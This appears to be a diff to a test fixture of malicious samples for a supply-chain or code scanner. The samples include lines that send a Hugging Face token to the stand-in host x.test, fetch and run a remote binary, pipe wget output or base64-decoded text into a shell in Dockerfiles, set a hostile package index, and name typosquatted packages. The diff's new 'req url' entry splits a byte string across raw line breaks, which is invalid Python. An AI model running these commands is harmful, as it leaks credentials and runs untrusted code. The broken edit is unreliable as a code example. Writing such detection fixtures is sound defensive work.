@@ -371,7 +371,7 @@ EVIL_ONES["py exfil"] = (
     b"import os,urllib.request\nurllib.request.urlopen('http://x.test/?t='+os.environ['HF_TOKEN'])\n"
 )
 EVIL_ONES["py exfil2"] = (
-    b"import requests\nt=open('/root/.cache/huggingface/token').read()\nrequests.get('http://x.test/'+t)\n"
+    b"import requests\nt=open('/home/user/.cache/huggingface/token').read()\nrequests.get('http://x.test/'+t)\n"
 )
 EVIL_ONES["py down run"] = (
     b"import urllib.request,subprocess\nurllib.request.urlretrieve('http://x.test/a','/tmp/a')\nsubprocess.Popen(['/tmp/a'])\n"
@@ -403,7 +403,9 @@ EVIL_ONES["gh workflow"] = (
 )
 EVIL_ONES["docker multi"] = b"FROM python:3.11 AS a\nRUN wget -O- http://x.test/i.sh \\\n  | sh\n"
 EVIL_ONES["docker b64"] = b"FROM python:3.11\nRUN echo aGk= | base64 -d | bash\n"
-EVIL_ONES["req url"] = b"torch\n--index-url http://evil.test/simple\n"
+EVIL_ONES["req url"] = b"torch
+--index" + b"-url http://evil.test/" + b"simple
+"
 EVIL_ONES["req typo"] = b"numpy==1.0\ntransformer5==1\ntorchvison==0.1\n"
 EVIL_ONES["req mal"] = b"torch==2.0\ncolourama==0.1\n"
 EVIL_ONES["pyproject"] = (
